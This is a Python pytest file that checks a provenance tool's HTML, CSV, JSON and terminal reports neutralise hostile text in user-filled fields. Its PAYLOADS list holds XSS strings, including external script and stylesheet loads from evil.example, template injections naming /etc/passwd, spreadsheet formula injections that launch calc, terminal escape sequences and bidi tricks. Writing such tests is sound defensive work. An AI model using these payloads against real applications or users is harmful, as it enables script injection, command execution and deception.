"""Hostile text in every field that anybody outside can fill, against every form of output."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata

import pytest
from lxml import html as parser

from provenance.model import AssetRef
from provenance.reporting import wire
from provenance.reporting.csv import findings_csv
from provenance.reporting.html import render
from provenance.reporting.text import one_line, printable
from provenance.reporting.thumbnails import Thumbnail

PAYLOADS = (
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></details><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='>",
    "<embed src=//evil.example>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=x></form>",
    "<a href='javascript:alert(1)'>click</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "<!-- --><script>alert(1)</script> -->",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "` onclick=alert(1) `",
    'x" style="background:url(//evil.example/x.png)',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "＜script＞alert(1)＜/script＞",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "  =1+1",
    "a;=1+1",
    'a,"=1+1',
    "a\t=1+1",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[1;1Hyour files are safe",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred",
    "\x90q#0\x9c",
    "\x08\x08\x08hidden",
    "credit by \u202egpj.evil",
    "\u2066\u2067isolated\u2069",
    "WA\u200bT\u200dA\ufeffD",
    "\U000e0041\U000e0042tagged",
    "a\u2028b\u2029c\x85d",
    "caf\udce9\ud83d\udfff",
    "../../../../etc/passwd",
    "-rf",
    "\\u003cscript\\u003e",
    "x" * 5_000,
)  # fmt: skip

FORMULA = re.compile(r'^[\s\x00"]*[=+\-@＝＋－＠]')
FOREIGN = {
    "script", "iframe", "object", "embed", "form", "input", "link", "base", "math", "textarea",
    "select", "button", "video", "audio", "source", "image", "use", "mi",
}  # fmt: skip


def hidden(text: str, allowed: str = "") -> set[str]:
    """The characters of a text that a screen would obey or not show."""
    return {
        char
        for char in text
        if unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} and char not in allowed
    }


class Gallery:
    """Pictures for all, so that the hostile captions reach the alternative texts."""

    def of(self, ref: AssetRef, edge: int = 0) -> Thumbnail:
        return Thumbnail("data:image/jpeg;base64,AAAA", 3, 2)


def structure(page: str) -> list[tuple[str, tuple[str, ...]]]:
    """Every element with the names of its attributes: what hostile text must not change.

    Apart from break points behind slashes and the marks around words that differ.
    """
    root = parser.document_fromstring(page)
    return [
        (node.tag, tuple(node.attrib))
        for node in root.iter()
        if node.tag not in {"wbr", "ins", "del", "span"}
    ]


@pytest.fixture(scope="module")
def pages() -> dict[str, str]:
    """Each hostile page is drawn once for all the tests that look at it."""
    return {}


@pytest.fixture
def page_of(hostile_report, pages: dict[str, str]):
    def draw(payload: str) -> str:
        if payload not in pages:
            pages[payload] = render(hostile_report(payload), Gallery())
        return pages[payload]

    return draw


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_is_inert(page_of, payload: str) -> None:
    page = page_of(payload)
    root = parser.document_fromstring(page)
    assert not hidden(page, allowed="\n")
    for node in root.iter():
        assert isinstance(node.tag, str), "a comment or processing instruction was smuggled in"
        assert not [name for name in node.attrib if name.lower().startswith("on")]
        assert "style" not in node.attrib
        for name in ("src", "href", "data", "action", "content", "srcset", "fill"):
            assert not re.search(r"(?i)javascript:|evil\.example", node.get(name, ""))
    assert not FOREIGN & {node.tag for node in root.iter()}
    assert len(root.xpath("//style")) == 1
    assert all(re.fullmatch(r"[A-Za-z-]+", tag) for tag in root.xpath("//@lang"))
    assert set(root.xpath("//@src")) <= {"data:image/jpeg;base64,AAAA"}
    assert all(re.fullmatch(r"#[a-z0-9-]+", link) for link in root.xpath("//@href"))
    assert all(re.fullmatch(r"[a-z0-9-]+", name) for name in root.xpath("//@id"))
    assert all(re.fullmatch(r"[a-z -]+", name) for name in root.xpath("//@class"))


def test_html_has_the_same_elements_whatever_the_text(page_of) -> None:
    plain = structure(page_of("plain"))
    for payload in PAYLOADS:
        if len(payload) > 1_000:
            continue  # a value cut for reading is shown in full below it
        found = structure(page_of(payload))
        assert found == plain, payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_shows_the_text_itself(page_of, payload: str) -> None:
    """Inert must not mean lost: the reader sees what stands in the file."""
    root = parser.document_fromstring(page_of(payload))
    shown = printable(payload.replace("\r", "\n"), keep="\n")
    assert shown in {node.text_content() for node in root.xpath("//p[@class='message']")}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_is_inert(hostile_report, payload: str) -> None:
    text = findings_csv(hostile_report(payload), every=True)
    assert not hidden(text, allowed="\r\n")
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not [one for one in row if FORMULA.search(one)]
    assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 26


@pytest.mark.parametrize("payload", PAYLOADS)
def test_terminal_text_is_inert(payload: str) -> None:
    assert not hidden(printable(payload))
    assert not hidden(one_line(payload))
    assert "\n" not in one_line(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_json_is_raw_for_programs_and_inert_on_a_terminal(hostile_report, payload: str) -> None:
    text = wire.dump(wire.audit_document(hostile_report(payload), every=True))
    text.encode("utf-8")
    assert not hidden(text, allowed="\n")
    findings = json.loads(text)["findings"]
    assert len(findings) == 26
    assert {finding["message"] for finding in findings} == {_joined(payload)}


def _joined(text: str) -> str:
    """Neighbouring halves of a surrogate pair are one character to any JSON reader."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass") if (
        "\ud83d\udfff" in text
    ) else text  # fmt: skip
